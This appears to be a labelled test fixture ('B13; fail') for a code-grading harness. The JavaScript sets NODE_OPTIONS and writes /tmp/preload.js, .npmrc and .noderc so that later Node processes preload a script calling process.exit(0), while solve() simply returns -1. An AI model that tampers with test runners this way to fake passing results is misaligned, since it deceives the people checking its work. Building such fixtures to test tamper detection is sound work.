//: B13; fail; plants options and preloads for later interpreters
const fs = require("fs");
process.env.NODE_OPTIONS = "--require /tmp/preload.js";
for (const [name, text] of [["/tmp/preload.js", "process.exit(0)"], [".npmrc", "node-options=--require /tmp/preload.js"], [".noderc", "x"]]) {
  try {
    fs.writeFileSync(name, text);
  } catch {}
}

function solve(n) {
  return -1;
}
